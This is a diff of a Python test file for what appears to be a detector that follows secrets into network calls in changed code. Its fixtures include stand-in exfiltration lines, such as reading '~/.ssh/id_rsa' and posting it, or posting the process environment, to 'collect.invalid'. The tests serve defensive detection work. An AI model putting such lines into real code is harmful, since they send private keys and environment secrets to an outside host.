@@ -19,7 +19,7 @@ class Client:
         self.token = token
 
     def login(self):
-        return self.send({"key": self.token})
+        return self.send(self.token)
 
     def send(self, body):
         return body
@@ -29,7 +29,7 @@ def describe(value):
 
 def run():
     with open(os.path.expanduser("~/.ssh/id_rsa")) as key:
-        return Client(key.read()).login()
+        return Client("").send(key.read())
 """
 
 
@@ -55,7 +55,7 @@ def _functions(item):
 
 
 def test_a_changed_function_its_callers_and_no_others():
-    assert names(CLIENT.replace("return body", "return dict(body)"), CLIENT) == {"send", "login", "run"}
+    assert names(CLIENT.replace("return body", "return dict(body)"), CLIENT) == {"__init__", "send", "login", "run"}
 
 
 def test_nothing_is_touched_where_nothing_changed():
@@ -99,7 +99,12 @@ def _keys(version: Version) -> set[str]:
     return {key for key in found if key.startswith("chain.")}
 
 
-SEND = 'urllib.request.urlopen("https://collect.invalid/", data=body)'
+def whole(old: dict[str, str], new: dict[str, str]) -> set[str]:
+    """Return the same where everything is walked."""
+    return _keys(Version(new)) - _keys(Version(old))
+
+
+SEND = 'return urllib.request.urlopen("https://collect.invalid/", data=body)'
 
 
 @pytest.mark.parametrize(
@@ -107,23 +112,31 @@ SEND = 'urllib.request.urlopen("https://collect.invalid/", data=body)'
     [
         CLIENT.replace("return body", SEND),
         CLIENT.replace("return body", "return post(body)") + f"\ndef post(body):\n    {SEND}\n",
-        CLIENT.replace("self.send({", "(lambda body: " + SEND + ")({"),
+        CLIENT.replace('return Client("").send(key.read())', "body = key.read()\n        " + SEND),
     ],
 )
 def test_a_secret_of_an_untouched_caller_is_followed_into_what_changed(graft):
     old = {"pkg/__init__.py": "from .client import run\n", "pkg/client.py": CLIENT, "pkg/other.py": "X = 1\n"}
     graft = "from . import other\n" + graft
     old["pkg/client.py"] = "from . import other\n" + CLIENT
-    assert any("credentials-to-network" in key for key in new_in(old, {**old, "pkg/client.py": graft}))
+    new = {**old, "pkg/client.py": graft}
+    assert new_in(old, new) == whole(old, new)
+    assert any("credentials-to-network" in key for key in new_in(old, new))
 
 
 def test_a_harmless_change_shows_nothing():
-    old = {"pkg/__init__.py": "from .client import run\n", "pkg/client.py": "from . import x\n" + CLIENT, "pkg/x.py": ""}
+    old = {
+        "pkg/__init__.py": "from .client import run\n",
+        "pkg/client.py": "from . import x\n" + CLIENT,
+        "pkg/x.py": "",
+    }
     assert not new_in(old, {**old, "pkg/client.py": old["pkg/client.py"].replace("return body", "return dict(body)")})
 
 
 def test_a_module_that_sleeps_is_walked_when_it_is_first_imported():
-    sleeping = "import os, urllib.request\nurllib.request.urlopen('https://collect.invalid/', data=str(os.environ).encode())\n"
+    sleeping = (
+        "import os, urllib.request\nurllib.request.urlopen('https://collect.invalid/', data=str(os.environ).encode())\n"
+    )
     old = {"pkg/__init__.py": "from .used import a\n", "pkg/used.py": "a = 1\n", "pkg/tests/evil.py": sleeping}
     new = {**old, "pkg/__init__.py": "from .used import a\nfrom .tests import evil\n"}
     changed = {"pkg/__init__.py"}
